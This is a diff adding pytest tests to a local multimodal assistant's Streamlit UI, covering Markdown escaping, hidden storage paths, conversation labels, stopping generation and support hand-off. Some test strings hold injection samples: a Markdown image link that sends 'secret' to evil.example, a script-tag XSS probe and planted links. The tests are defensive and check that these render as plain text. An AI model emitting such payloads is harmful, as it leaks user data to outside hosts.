@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -83,6 +84,97 @@ def test_uploads_are_checked_and_named_safely(tmp_path, cat_photo):
         store_upload("tool.exe", b"MZ", tmp_path, max_mb=1, max_pixels=10**8)
 
 
+PLANTED = [  # what a document, an OCR'd image, a transcript or the model itself might carry
+    "# Planted heading\n[click me](http://evil.example/x) ![x](http://evil.example/?q=secret)",
+    "<img src=http://evil.example/a.png> <script>alert(1)</script> &amp; &lt;",
+    "1. one\n- two\n> quote\n***\n| a | b |\n|---|---|\n| 1 | 2 |\nSetext\n===",
+    "*em* **strong** `code` ~~del~~ <http://evil.example> \\![x](y) _u_ :red[x] $x^2$",
+    "line\\\nnext [ref]\n\n[ref]: http://evil.example/r\n\n[ref]",
+]
+
+
+@pytest.mark.parametrize("text", PLANTED)
+def test_untrusted_text_renders_as_the_same_characters(text):
+    """A CommonMark renderer turns plain(text) into one run of text per paragraph: no links, images,
+    headings, emphasis, lists or HTML, and the characters shown are exactly the input's."""
+    import html
+    import re
+
+    from markdown_it import MarkdownIt
+    from mmagent.ui.plain import plain
+
+    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(plain(text))
+    tags = set(re.findall(r"<(\w+)", rendered))
+    assert tags <= {"p", "br"}, rendered
+    shown = html.unescape(re.sub(r"<br />\n?", "\n", rendered).replace("</p>\n<p>", "\n\n"))
+    assert shown.removeprefix("<p>").removesuffix("</p>\n") == text, rendered
+
+
+def test_storage_paths_are_cut_to_file_names():
+    from mmagent.ui.plain import hide_paths
+
+    roots = ["/home/u/.local/share/mmagent", "/home/u/.local/share/mmagent/memory"]
+    text = "PDF '/home/u/.local/share/mmagent/ui/documents/0a1b/report.pdf' could not be read (in /home/u/.local/share/mmagent)"
+    assert hide_paths(text, roots) == "PDF 'report.pdf' could not be read (in …)"
+
+
+def test_conversation_labels_tell_conversations_apart():
+    from mmagent.ui.sidebar import conversation_labels
+
+    noon = time.mktime((2026, 12, 1, 12, 0, 0, 0, 0, -1))
+    a, b = Conversation(created=noon + 5), Conversation(created=noon + 42)
+    c = Conversation(created=noon - 86400 * 3)
+    for conv in (a, b, c):
+        conv.add(ChatMessage("user", "What animal is in this photo?"))
+    labels = conversation_labels([a, b, c], now=noon + 60)
+    assert labels[a.id] == "What animal is in this photo? · 12:00:05"  # same words, same minute: seconds
+    assert labels[b.id] == "What animal is in this photo? · 12:00:42"
+    assert labels[c.id] == "What animal is in this photo? · 28 Nov 12:00"
+    assert conversation_labels([a], now=noon)[a.id] == "What animal is in this photo? · 12:00"
+
+
+def test_stop_ends_the_models_thread(ui_env, monkeypatch):
+    """Closing a flow's run after Stop ends the generation within a token or two (the real tiny model and
+    qa flow; LangGraph runs the node in a worker thread, which only the Stop event can end early)."""
+    import threading
+
+    from mmagent.config import load_config
+    from mmagent.flows.base import TokenEvent, get_flow
+    from mmagent.flows.qa import QARequest
+    from mmagent.model import load_backend
+    from mmagent.ui.resources import AdapterBound, stoppable
+
+    monkeypatch.setenv("MMAGENT_MODEL_MAX_NEW_TOKENS", "120")
+    config = load_config()
+    backend = load_backend(config)
+    steps = []
+    hook = backend.model.register_forward_hook(lambda *_: steps.append(1))
+    flow = get_flow("qa", config, AdapterBound(backend, None))
+
+    def run(stop_after: int | None) -> int:
+        steps.clear()
+        stop = threading.Event()
+        with stoppable(stop):
+            events = flow.run(QARequest(question="Tell me a long story."))
+            tokens = 0
+            for event in events:
+                tokens += isinstance(event, TokenEvent)
+                if stop_after is not None and tokens >= stop_after:
+                    break
+        stop.set()
+        events.close()
+        assert not [t for t in threading.enumerate() if t.name == "mmagent-generate"]
+        assert backend._lock.acquire(blocking=False)  # the next question need not wait
+        backend._lock.release()
+        return len(steps)
+
+    full = run(None)
+    stopped = run(2)
+    hook.remove()
+    assert full > 60, full  # the random model writes on to the token limit
+    assert stopped < 10, (stopped, full)
+
+
 def test_ui_modules_import_no_torch():
     code = ("import sys, time; t = time.perf_counter(); "
             "import mmagent.ui.chat, mmagent.ui.memory_page, mmagent.ui.eval_page, mmagent.cli.ui; "
@@ -99,6 +191,19 @@ def test_cli_ui_command_line():
     assert cmd[1:4] == ["-m", "streamlit", "run"] and Path(cmd[4]).name == "app.py" and Path(cmd[4]).is_file()
     assert cmd[cmd.index("--server.port") + 1] == "8600" and cmd[cmd.index("--server.address") + 1] == "127.0.0.1"
     assert cmd[cmd.index("--server.maxUploadSize") + 1] == "50"
+    assert cmd[cmd.index("--browser.gatherUsageStats") + 1] == "false"  # nothing leaves the machine
+    assert cmd[cmd.index("--server.enableStaticServing") + 1] == "false"
+
+
+def test_page_icon_is_a_shipped_file():
+    """A ':material/...:' or emoji page icon makes the browser fetch it from a CDN; ours is package data."""
+    import tomllib
+    from importlib.resources import files
+
+    icon = files("mmagent.assets").joinpath("icon.png")
+    assert icon.read_bytes().startswith(b"\x89PNG")
+    globs = tomllib.loads((APP.parents[1] / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]
+    assert "*.png" in globs["mmagent.assets"]
 
 
 # ---- pages ---------------------------------------------------------------------------------------
@@ -126,7 +231,7 @@ def test_chat_streams_switches_adapter_without_reload_and_persists(ui_env):
     reopened = app_test().run()  # a new browser session (or a restart): the conversation comes back
     assert not reopened.exception
     texts = [m.value for m in reopened.markdown]
-    assert "Describe the image." in texts
+    assert "Describe the image\\." in texts  # shown as plain text (Markdown-escaped)
     assert len(reopened.chat_message) == 4
     assert reopened.selectbox(key=f"adapter_{conv.id}").value == "a"
 
@@ -165,8 +270,44 @@ def test_support_mode_shows_handoff_banner_and_ticket(ui_env):
     [conv] = saved(ui_env)
     answer = conv.messages[-1]
     assert answer.handoff and answer.tickets
-    assert any("handed off to a human agent" in e.value for e in at.error)  # the page banner
-    assert any(f"#{answer.tickets[0]}" in e.value for e in at.error)
+    ask(at, "Hello? Is anyone there?")  # after the hand-off the assistant only confirms it
+    notices = [e.value for e in [*at.info, *at.warning, *at.error] if "handed off" in e.value.lower()]
+    assert len(notices) == 1 and not at.error and not at.warning, notices  # once, as information
+    assert f"#{answer.tickets[0]}" in notices[0]
+    calls = [line for line in answer.tools if line.startswith("→")]
+    assert calls and len(answer.tools) == 2 * len(calls)  # each call has its result line
+    assert f"Tool calls ({len(calls)})" in [e.label for e in at.expander]
+
+
+def test_a_new_conversation_starts_from_the_defaults(ui_env):
+    at = app_test().run()
+    first = at.session_state["conversation"].id
+    at.selectbox(key=f"flow_{first}").set_value("Customer service").run()
+    at.selectbox(key=f"adapter_{first}").set_value("a").run()
+    ask(at, "Where is my order 1001?")
+    at.button[[b.label for b in at.button].index("New conversation")].click().run()
+    conv = at.session_state["conversation"]
+    assert conv.id != first and (conv.flow, conv.adapter, conv.collection) == ("qa", None, None)
+    assert at.selectbox(key=f"flow_{conv.id}").value == "Question answering"
+    assert at.selectbox(key=f"adapter_{conv.id}").value == "none (base model)"
+
+
+def test_untrusted_text_in_the_chat_is_plain(ui_env):
+    """Planted Markdown in an answer and in a source's excerpt reaches every Markdown element escaped."""
+    from mmagent.ui.plain import plain
+
+    planted = "# Planted\n[click](http://evil.example/x) ![x](http://evil.example/?q=secret)"
+    store = ConversationStore(ui_env / "data" / "ui" / "conversations")
+    conv = Conversation()
+    conv.add(ChatMessage("user", "When does the cafeteria open? " + planted))
+    conv.add(ChatMessage("assistant", "At 7:30 [1]. " + planted, sources=[
+        SourceEvent(1, Source(str(ui_env / "planted.md"), excerpt=planted, score=0.5))]))
+    store.save(conv)
+    at = app_test().run()
+    assert not at.exception, at.exception
+    shown = [e.value for e in [*at.markdown, *at.caption]]
+    assert plain("At 7:30 [1]. " + planted) in shown and plain(planted) in shown  # the answer and the excerpt
+    assert all("](http" not in v and "![" not in v for v in shown), shown
 
 
 def test_memory_page_lists_and_deletes_documents(ui_env):
@@ -191,7 +332,10 @@ def test_memory_page_lists_and_deletes_documents(ui_env):
     assert not at.exception, at.exception
     assert at.selectbox(key="memory_collection").value == "handbook"
     table = at.dataframe[0].value
-    assert sorted(table["source"]) == ["hours.txt", "notes.md"]
+    assert list(table.columns) == ["document", "chunks"] and sorted(table["document"]) == ["hours.txt", "notes.md"]
+    assert sorted(at.multiselect[0].options) == ["hours.txt", "notes.md"]
+    page_text = [str(e.value) for e in [*at.markdown, *at.caption, *at.info, *at.error, *at.subheader]]
+    assert not [t for t in page_text if str(ui_env) in t]  # no storage paths on the page
     stored_notes = next(s for s in memory.sources() if s.endswith("notes.md"))
     at.multiselect[0].select(stored_notes).run()
     at.button[[b.label for b in at.button].index("Delete 1 document(s)")].click().run()
